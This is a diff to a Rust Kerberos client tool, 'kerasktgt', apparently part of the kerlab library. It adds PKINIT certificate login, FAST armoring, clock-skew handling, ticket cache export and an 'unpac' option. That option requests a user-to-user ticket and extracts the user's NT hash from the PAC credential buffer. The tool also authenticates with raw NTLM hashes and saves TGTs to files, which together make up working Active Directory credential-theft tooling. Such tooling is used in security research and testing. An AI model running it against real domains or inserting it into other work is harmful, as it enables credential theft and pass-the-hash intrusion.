@@ -1,19 +1,105 @@
 extern crate kerlab;
 extern crate clap;
+extern crate chrono;
 
-use kerlab::krbkdcreq::{AsReq, KdcOptionsType};
-use kerlab::asn1::to_der;
+use kerlab::krbkdcreq::{AsReq, TgsReq};
+use kerlab::base::{KdcOptionsType, DEFAULT_MAX_SKEW_MINUTES};
+use kerlab::asn1::{to_der, from_ber};
 use std::io::{Write};
-use kerlab::display::{Display, Formatter};
-use kerlab::request::{KrbResponse, TcpRequest};
-use kerlab::krbkdcrep::{AsRep, EncASRepPart};
+use kerlab::json::Printer;
+use kerlab::request::{KrbResponse, KdcClock};
+use kerlab::krbkdcrep::{AsRep, EncASRepPart, TgsRep, KdcRep, EncKDCRepPart};
 use clap::{App, Arg};
 use kerlab::encryption::{KeyUsage, EncryptionKey};
-use std::fs::File;
-use kerlab::krbcred::KrbCred;
+use std::fs::{self, File};
+use kerlab::krbcred::{KrbCred, EncKrbCredPart};
+use kerlab::fast::FastArmor;
+use kerlab::padata::PaDataType;
+use kerlab::pkinit::Pkinit;
+use kerlab::pkcs12::Pkcs12;
+use kerlab::x509::Certificate;
+use kerlab::authenticator::Authenticator;
+use kerlab::ticket::EncTicketPart;
+use kerlab::acceptor::find_pac;
+use kerlab::pac::PacStruct;
+use kerlab::validate::validate_reply_at;
+use kerlab::ccache::CCache;
+use chrono::Duration;
 
 const APPLICATION_NAME: &str = "kerasktgt";
 
+/// Build the FAST armor from a TGT recorded with kerasktgt
+fn load_armor(path: &str) -> FastArmor {
+    let contents = fs::read(path).expect("Unable to read armor TGT");
+    let mut tgt = KrbCred::default();
+    from_ber(&mut tgt, &contents).unwrap();
+
+    let mut krb_cred = EncryptionKey::new_no_encryption().decrypt::<EncKrbCredPart>(
+        KeyUsage::KeyUsageKrbCredEncPart,
+        &tgt.enc_part
+    ).unwrap();
+
+    let ticket_info = krb_cred.ticket_info.pop()
+        .expect("There is no ticket info in the armor TGT");
+
+    FastArmor::from_tgt(
+        tgt.inner.tickets.inner.pop().expect("There is no ticket in the armor TGT"),
+        &ticket_info.key,
+        ticket_info.prealm.expect("Unable to found realm in armor TGT").inner,
+        ticket_info.pname.expect("Unable to found principal name in armor TGT").inner
+    ).unwrap()
+}
+
+/// UnPAC the hash
+/// Ask a user to user service ticket for ourself using the PKINIT TGT
+/// The PAC of this ticket contains the NTLM credentials of the user
+/// encrypted with the AS reply key
+fn unpac(printer: &Printer, clock: &mut KdcClock, kdc: &str, response: &KdcRep, enc_part: &EncKDCRepPart, reply_key: &EncryptionKey) {
+    let (_, tgs_response) = clock.ask_for::<TgsRep, _, _>(kdc, |now| {
+        let authenticator = Authenticator::new(
+            response.crealm.inner.clone(),
+            response.cname.inner.clone()
+        ).with_ctime(now);
+
+        let tgs_request = TgsReq::new(
+            response.crealm.as_str(),
+            response.cname.name_string.first().expect("Unable to find username in the AS-REP").as_str(),
+            response.cname.inner.clone(),
+            &[KdcOptionsType::Forwardable, KdcOptionsType::Renewable, KdcOptionsType::Canonicalize, KdcOptionsType::EncTktInsKey]
+        )?
+            .with_additional_ticket(response.ticket.inner.clone())
+            .with_authenticator(response.ticket.inner.clone(), &enc_part.key, authenticator)?;
+
+        printer.structure("TGS-REQ", &tgs_request);
+        Ok(tgs_request)
+    }).unwrap();
+
+    match tgs_response {
+        KrbResponse::Error(error) => {
+            printer.structure("KRB-ERROR", &error);
+        }
+        KrbResponse::Response(tgs_response) => {
+            // user to user ticket is encrypted with the TGT session key
+            let ticket = enc_part.key.decrypt::<EncTicketPart>(
+                KeyUsage::KeyUsageAsRepTicket,
+                &tgs_response.ticket.enc_part
+            ).unwrap();
+
+            let pac = find_pac(&ticket).unwrap().expect("There is no PAC in the user to user ticket");
+            for buffer in &pac.buffers {
+                if let PacStruct::PacCredentialInfo(credential_info) = buffer {
+                    let credentials = credential_info.decrypt(reply_key).unwrap();
+                    match credentials.ntlm().unwrap().as_ref().and_then(|e| e.nt_hash()) {
+                        Some(nt_hash) => printer.message(&format!("NT hash {}", hex::encode(nt_hash))),
+                        None => printer.message("There is no NT hash in the PAC credentials")
+                    }
+                    return;
+                }
+            }
+            printer.message("There is no PAC_CREDENTIAL_INFO in the ticket");
+        }
+    }
+}
 
 fn main() {
 
@@ -50,14 +136,60 @@ fn main() {
                  .long("outfile")
                  .takes_value(true)
                  .help("Output file path"))
+        .arg(Arg::with_name("ccache")
+                 .long("ccache")
+                 .takes_value(true)
+                 .help("Save the ticket into a MIT credential cache, with the offset of the KDC clock"))
+        .arg(Arg::with_name("time-offset")
+                 .long("time-offset")
+                 .takes_value(true)
+                 .allow_hyphen_values(true)
+                 .help("Offset of the KDC clock in seconds, learned from KRB_AP_ERR_SKEW when not set"))
         .arg(Arg::with_name("forwardable")
                  .long("forwardable")
                  .help("Ask for a forwardable ticket"))
         .arg(Arg::with_name("renewable")
                  .long("renewable")
                  .help("Ask for a renewable ticket"))
+        .arg(Arg::with_name("armor")
+                 .long("armor")
+                 .takes_value(true)
+                 .help("TGT use to armor the request with FAST"))
+        .arg(Arg::with_name("pfx")
+                 .long("pfx")
+                 .takes_value(true)
+                 .help("PKCS#12 file use for PKINIT authentication"))
+        .arg(Arg::with_name("pfx-password")
+                 .long("pfx-password")
+                 .takes_value(true)
+                 .default_value("")
+                 .help("Password of the PKCS#12 file"))
+        .arg(Arg::with_name("pem")
+                 .long("pem")
+                 .takes_value(true)
+                 .help("PEM file with certificate and private key use for PKINIT authentication"))
+        .arg(Arg::with_name("ca")
+                 .long("ca")
+                 .takes_value(true)
+                 .help("PEM certificate of the CA that must issue the KDC certificate"))
+        .arg(Arg::with_name("any-kdc")
+                 .long("any-kdc")
+                 .help("Accept a KDC certificate issued by any CA when no CA is given (lab only)"))
+        .arg(Arg::with_name("unpac")
+                 .long("unpac")
+                 .help("Retrieve the NT hash of the user from the PAC after a PKINIT authentication"))
+        .arg(Arg::with_name("pac")
+                 .long("pac")
+                 .takes_value(true)
+                 .possible_values(&["yes", "no"])
+                 .help("Ask the KDC to include or to omit the PAC using a PA-PAC-REQUEST"))
+        .arg(Arg::with_name("json")
+                 .long("json")
+                 .help("Print messages as JSON lines"))
         .get_matches();
 
+    let printer = Printer::new(matches.is_present("json"));
+
     let ip = matches.value_of("dc").expect("You need to provide a dc argument");
     let port = matches.value_of("port").unwrap_or_default();
 
@@ -72,74 +204,169 @@ fn main() {
         options.push(KdcOptionsType::Forwardable);
     }
 
-    // create request
-    let mut tgt_request = AsReq::new(
-        matches.value_of("domain").unwrap(),
-        matches.value_of("username").unwrap(),
-        &options,
-    ).unwrap();
-
+    // long term key of the user
+    let mut key : Option<EncryptionKey> = None;
     if let Some(password) = matches.value_of("password") {
-        tgt_request = tgt_request.with_preauth(
-            &EncryptionKey::new_rc4_hmac(password).unwrap()
-        ).unwrap()
+        key = Some(EncryptionKey::new_rc4_hmac(password).unwrap());
     }
-
     if let Some(ntlm) = matches.value_of("ntlm") {
-        tgt_request = tgt_request.with_preauth(
-            &EncryptionKey::new_rc4_hmac_from_hash(hex::decode(ntlm).unwrap()).unwrap()
-        ).unwrap()
+        key = Some(EncryptionKey::new_rc4_hmac_from_hash(hex::decode(ntlm).unwrap()).unwrap());
     }
 
-    println!("**************************************************");
-    println!("AS-REQ ::=");
-    tgt_request.format(&mut Formatter::new());
+    let armor = matches.value_of("armor").map(load_armor);
 
-    let tgt_response = TcpRequest::ask_for::<AsRep, String>(&tgt_request, format!("{}:{}", ip, port)).unwrap();
+    // certificate based authentication
+    let mut pkinit = None;
+    if let Some(pfx) = matches.value_of("pfx") {
+        pkinit = Some(Pkinit::from_pkcs12(
+            Pkcs12::from_file(pfx, matches.value_of("pfx-password").unwrap_or_default()).unwrap()
+        ).unwrap());
+    }
+    if let Some(pem) = matches.value_of("pem") {
+        pkinit = Some(Pkinit::from_pem(&fs::read_to_string(pem).unwrap()).unwrap());
+    }
+    pkinit = pkinit.map(|client| match matches.value_of("ca") {
+        Some(ca) => client.with_trusted_ca(Certificate::from_pem(&fs::read_to_string(ca).unwrap()).unwrap().remove(0)),
+        None if matches.is_present("any-kdc") => {
+            eprintln!("Warning: the KDC certificate is not checked, the KDC is not authenticated");
+            client.with_any_kdc()
+        },
+        None => panic!("You need to provide a ca argument to check the KDC certificate, or any-kdc")
+    });
+
+    let kdc = format!("{}:{}", ip, port);
+    let mut clock = KdcClock::default();
+    if let Some(offset) = matches.value_of("time-offset") {
+        clock = clock.with_offset(&kdc, Duration::seconds(offset.parse().expect("Time offset must be a number of seconds")));
+    }
+
+    // the request is built again at the KDC time on clock skew
+    let (tgt_request, tgt_response) = clock.ask_for::<AsRep, _, _>(&kdc, |now| {
+        let mut tgt_request = AsReq::new(
+            matches.value_of("domain").unwrap(),
+            matches.value_of("username").unwrap(),
+            &options,
+        )?;
+
+        if let Some(pac) = matches.value_of("pac") {
+            tgt_request = tgt_request.with_pac_request(pac == "yes")?;
+        }
+
+        if let Some(pkinit) = &pkinit {
+            tgt_request = tgt_request.with_pkinit_at(pkinit, now)?;
+        }
+
+        // armored request use encrypted challenge in place of encrypted timestamp
+        if let Some(key) = &key {
+            tgt_request = match &armor {
+                Some(armor) => tgt_request.with_encrypted_challenge_at(armor.armor_key(), key, now)?,
+                None => tgt_request.with_preauth_at(key, now)?
+            };
+        }
+
+        if let Some(armor) = &armor {
+            armor.armor(&mut tgt_request)?;
+        }
+
+        printer.structure("AS-REQ", &tgt_request);
+        Ok(tgt_request)
+    }).unwrap();
+
+    if clock.offset(&kdc) != Duration::zero() {
+        printer.message(&format!("KDC clock offset {}s", clock.offset(&kdc).num_seconds()));
+    }
+
+    let nonce = tgt_request.req_body.nonce.inner;
 
     match tgt_response {
         KrbResponse::Error(error) => {
-            println!("**************************************************");
-            println!("KRB-ERROR ::=");
-            error.format(&mut Formatter::new());
+            printer.structure("KRB-ERROR", &error);
+
+            if let Some(armor) = &armor {
+                let (inner_error, _) = armor.unwrap_error(&error, nonce).unwrap();
+                printer.structure("PA-FX-ERROR", &inner_error);
+            }
         }
         KrbResponse::Response(response) => {
-            println!("**************************************************");
-            println!("AS-REP ::=");
-            response.format(&mut Formatter::new());
+            printer.structure("AS-REP", &response);
+
+            let mut reply_padata = response.padata.as_ref().map(|e| e.inner.clone()).unwrap_or_default();
+
+            // FAST reply could strengthen the reply key
+            let mut fast_response = None;
+            if let Some(armor) = &armor {
+                let inner = armor.unwrap_reply(&response, nonce).unwrap();
+                reply_padata = inner.padata.inner.clone();
+                fast_response = Some(inner);
+            }
 
-            let mut key : Option<EncryptionKey> = None;
-            if let Some(password) = matches.value_of("password") {
-                key = Some(EncryptionKey::new_rc4_hmac(password).unwrap());
+            // PKINIT reply key comes from the Diffie-Hellman key agreement
+            if let Some(pkinit) = &pkinit {
+                key = Some(pkinit.reply_key(&reply_padata, response.enc_part.etype.inner, nonce).unwrap());
             }
-            if let Some(ntlm) = matches.value_of("ntlm") {
-                key = Some(EncryptionKey::new_rc4_hmac_from_hash(hex::decode(ntlm).unwrap()).unwrap());
+
+            if let (Some(armor), Some(fast_response), Some(reply_key)) = (&armor, &fast_response, key.clone()) {
+                // KDC proves it knows the user key in reply to our encrypted challenge
+                // @see https://tools.ietf.org/html/rfc6113#section-5.4.6
+                if pkinit.is_none() {
+                    let challenge = fast_response.find_padata(PaDataType::PaEncryptedChallenge)
+                        .expect("KDC encrypted challenge is missing from the FAST reply");
+                    challenge.verify_kdc_challenge(armor.armor_key(), &reply_key).unwrap();
+                    printer.message("KDC encrypted challenge verified");
+                }
+
+                key = Some(armor.reply_key(fast_response, &reply_key).unwrap());
             }
 
             if let Some(key) = key {
-                println!("**************************************************");
-                println!("Decrypting the KDC-REP.enc-part with the user password");
+                // Windows use key usage 8 with RC4, RFC 4120 says 3
                 let enc_part = key.decrypt::<EncASRepPart>(
                         KeyUsage::KeyUsageAsRepEncPart,
                         &response.enc_part
-                    ).unwrap();
+                    ).or_else(|_| key.decrypt::<EncASRepPart>(
+                        KeyUsage::KeyUsageAsRepEncPart1,
+                        &response.enc_part
+                    )).unwrap();
+
+                printer.structure("EncASRepPart", &enc_part);
+
+                let validation = validate_reply_at(&tgt_request, &response, &enc_part, clock.now(&kdc), Duration::minutes(DEFAULT_MAX_SKEW_MINUTES));
+                for issue in &validation.issues {
+                    printer.message(&issue.to_string());
+                }
+
+                if !validation.is_valid() {
+                    printer.message("Reply doesn't answer the request, the ticket is not saved and the PAC is not decrypted");
+                }
+                else {
+                    if matches.is_present("unpac") {
+                        unpac(&printer, &mut clock, &kdc, &response, &enc_part, &key);
+                    }
+
+                    // the offset of the KDC clock is kept for the next requests
+                    if let Some(path) = matches.value_of("ccache") {
+                        CCache::new(response.crealm.inner.clone(), response.cname.inner.clone())
+                            .with_time_offset(clock.offset(&kdc))
+                            .with_credential(response.ticket.inner.clone(), enc_part.inner.clone())
+                            .to_file(path).unwrap();
 
-                enc_part.format(&mut Formatter::new());
+                        printer.message(&format!("Saving ccache in {}", path));
+                    }
 
-                if let Some(path) = matches.value_of("outfile") {
-                    let mut file = File::create(path).unwrap();
-                    let credentials = KrbCred::new(
-                        response.cname.inner.clone(),
-                        response.ticket.inner.clone(),
-                        enc_part.inner
-                    ).unwrap();
-                    file.write_all(&to_der(&credentials)).unwrap();
+                    if let Some(path) = matches.value_of("outfile") {
+                        let mut file = File::create(path).unwrap();
+                        let credentials = KrbCred::new(
+                            response.cname.inner.clone(),
+                            response.ticket.inner.clone(),
+                            enc_part.inner
+                        ).unwrap();
+                        file.write_all(&to_der(&credentials).unwrap()).unwrap();
 
-                    println!("**************************************************");
-                    println!("Saving KRB-CRED in {}", path);
+                        printer.message(&format!("Saving KRB-CRED in {}", path));
+                    }
                 }
             }
         }
     }
-    println!("**************************************************");
+    printer.end();
 }
\ No newline at end of file